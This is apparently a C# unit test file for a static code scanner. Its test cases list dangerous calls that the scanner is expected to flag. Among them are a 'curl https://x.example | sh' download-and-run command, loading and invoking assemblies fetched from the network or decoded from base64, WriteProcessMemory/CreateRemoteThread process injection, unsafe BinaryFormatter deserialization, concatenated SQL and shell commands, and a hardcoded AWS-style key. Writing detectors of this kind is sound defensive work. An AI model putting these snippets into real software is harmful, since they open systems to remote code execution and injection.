using FsCheck;
using FsCheck.Fluent;
using Symbiont.Scanning.Code.CSharp;
using Symbiont.Scanning.Code.Syntax;

namespace Symbiont.Scanning.Tests.Code.CSharp;

public sealed class SharpCallTests
{
    [Theory]
    [InlineData("code-command-injection", Severity.High, "Process.Start(\"cmd.exe\", \"/c ping \" + host);")]
    [InlineData("code-command-injection", Severity.High, "var p = new ProcessStartInfo(\"/bin/bash\", $\"-c \\\"ls {dir}\\\"\");")]
    [InlineData("code-command-injection", Severity.High, "Process.Start(new ProcessStartInfo { FileName = \"powershell\", Arguments = string.Format(\"-c {0}\", x) });")]
    [InlineData("code-download-and-run", Severity.Critical, "Process.Start(\"/bin/sh\", \"-c 'curl https://x.example | sh'\");")]
    [InlineData("code-download-and-run", Severity.Critical, "Assembly.Load(new WebClient().DownloadData(\"https://x.example/a.dll\"));")]
    [InlineData("code-download-and-run", Severity.Critical, "var image = await client.GetByteArrayAsync(url);\nAssembly.Load(image).EntryPoint.Invoke(null, null);")]
    [InlineData("code-obfuscated-execution", Severity.Critical, "Assembly.Load(Convert.FromBase64String(s)).EntryPoint.Invoke(null, null);")]
    [InlineData("code-unsafe-deserialization", Severity.High, "var f = new BinaryFormatter(); f.Deserialize(stream);")]
    [InlineData("code-process-injection", Severity.Critical, "WriteProcessMemory(h, p, buffer, n, out _); CreateRemoteThread(h, 0, 0, p, 0, 0, 0);")]
    [InlineData("code-sql-injection", Severity.High, "db.Users.FromSqlRaw(\"SELECT * FROM u WHERE n = '\" + name + \"'\");")]
    [InlineData("code-sql-injection", Severity.Medium, "cmd.CommandText = $\"SELECT * FROM u WHERE n = '{name}'\";")]
    [InlineData("code-injection", Severity.High, "await CSharpScript.EvaluateAsync(\"return \" + text);")]
    [InlineData("code-hardcoded-secret", Severity.High, "var k = \"AKIAQ5WJ7RZ2XN4PLT3M\";")]
    public void Dangerous_calls_are_found(string rule, Severity severity, string text) => CodeScan.Finds("x.cs", text, rule, severity);

    [Theory]
    [InlineData("Process.Start(\"git\", new[] { \"status\", path });")]
    [InlineData("Process.Start(new ProcessStartInfo(\"git\", $\"log -n {count}\"));")]
    [InlineData("var text = await client.GetStringAsync(url); var image = File.ReadAllBytes(path);")]
    [InlineData("var a = Assembly.Load(\"My.Plugin\");")]
    [InlineData("cmd.CommandText = \"SELECT * FROM u WHERE n = @n\";")]
    [InlineData("// Process.Start(\"cmd.exe\", \"/c \" + x);\nvar s = \"new BinaryFormatter()\";")]
    [InlineData("cmd.CommandText = \"SELECT a \" + \"FROM b\";")]
    [InlineData("var s = $\"\"\"\nWriteProcessMemory({x})\n\"\"\";")]
    public void Honest_calls_pass(string text) => CodeScan.Passes("x.cs", text);

    [Fact]
    public void Any_text_has_tokens_in_order_with_nothing_but_white_space_between_them() =>
        Prop.ForAll(Arb.From(HostileText.Of("'\"$@{}()[]/*\\ \n\tabé.+;", ["\"\"\"", "$\"", "@\"", "//", "/*", "Process.Start("])), text =>
        {
            var code = new CodeText(text);
            TokenSpans.Cover(code, SharpLexer.Tokenize(code), " \t\r\n\f\uFEFF");
        }).QuickCheckThrowOnFailure();
}
